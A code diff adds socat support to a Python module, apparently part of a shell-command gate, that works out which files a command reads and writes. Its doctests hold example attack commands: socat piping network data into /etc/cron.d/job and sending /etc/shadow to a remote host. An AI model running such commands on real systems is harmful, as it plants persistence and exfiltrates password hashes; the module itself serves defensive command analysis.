@@ -1,8 +1,8 @@
 """Files a program writes because an option or operand names its output, from its manual.
 
 ``curl -o FILE``, ``sort -o FILE``, ``gcc -o FILE``, ``openssl ... -out FILE``, tar's
-archive when it creates one (``tar cf X``, ``tar -czf X``, ``--file=X``), zip's archive and
-uniq's second operand. ``-`` (standard output) is not a file. For any other program, a
+archive when it creates one (``tar cf X``, ``tar -czf X``, ``--file=X``), zip's archive,
+uniq's second operand and the file addresses socat writes (``socat_files``). ``-`` (standard output) is not a file. For any other program, a
 path given to ``--output``, ``--output-file``, ``--outfile`` or ``--output-document``: the
 GNU Coding Standards' table of long options gives ``--output`` one meaning across programs,
 the file to write (a value that is no path, ``kubectl get -o json``'s format, is none).
@@ -15,9 +15,11 @@ the file to write (a value that is no path, ``kubectl get -o json``'s format, is
 
 from __future__ import annotations
 
+import re
+
 from neuroplast.gate.shell import Segment
 
-__all__ = ["OUTPUT_OPTIONS", "option_values", "output_files"]
+__all__ = ["OUTPUT_OPTIONS", "option_values", "output_files", "socat_files"]
 
 _COMPILER = ("-o",)  # gcc(1), clang(1), rustc --help, as(1), ld(1): '-o file'
 _WGET = ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output",
@@ -143,6 +145,38 @@ def _first_operand_after(argv: tuple[str, ...], value_options: frozenset[str]) -
     return operands
 
 
+# socat(1) ADDRESS TYPES naming a file: OPEN (FILE is its alias), GOPEN, CREATE (CREAT),
+# PIPE with a name; 'If the address contains a slash', and no type, it is GOPEN
+_SOCAT_FILE = re.compile(r"^(?:open|file|gopen|create|creat|pipe):([^,]+)", re.IGNORECASE)
+
+
+def socat_files(argv: tuple[str, ...]) -> tuple[list[str], list[str]]:
+    """(files read, files written) of socat's two addresses: socat(1) moves data both ways
+    unless ``-u`` (from the first address to the second) or ``-U`` (the reverse).
+
+    >>> socat_files(("socat", "-u", "TCP:x.io:80", "OPEN:/etc/cron.d/job,creat"))
+    ([], ['/etc/cron.d/job'])
+    >>> socat_files(("socat", "-u", "file:/etc/shadow", "tcp-connect:x.io:9"))
+    (['/etc/shadow'], [])
+    >>> socat_files(("socat", "STDIO", "./fifo,ignoreeof"))
+    (['./fifo'], ['./fifo'])
+    """
+    addresses = [a for a in argv[1:] if a == "-" or not a.startswith("-")][:2]
+    files = []
+    for address in addresses:
+        match, first = _SOCAT_FILE.match(address), address.split(",", 1)[0]
+        files.append(match.group(1) if match else (
+            first if "/" in first and ":" not in first else ""))
+    files += [""] * (2 - len(files))
+    if "-u" in argv:
+        reads, writes = files[:1], files[1:]
+    elif "-U" in argv:
+        reads, writes = files[1:], files[:1]
+    else:
+        reads = writes = files
+    return [f for f in reads if f], [f for f in writes if f]
+
+
 _GNU_OUTPUT = ("--output", "--output-file", "--outfile", "--out-file", "--output-document")
 
 
@@ -176,6 +210,8 @@ def output_files(seg: Segment) -> list[str]:
         found += option_values(argv, ("-O", "--output-file"))
     elif head == "uniq":
         found += _first_operand_after(argv, _UNIQ_VALUE_OPTIONS)[1:2]
+    elif head == "socat":
+        found += socat_files(argv)[1]
     if not found and head not in OUTPUT_OPTIONS:
         found += [v for v in option_values(argv, _GNU_OUTPUT) if _path_like(v)]
     return [f for f in found if f and f != "-"]
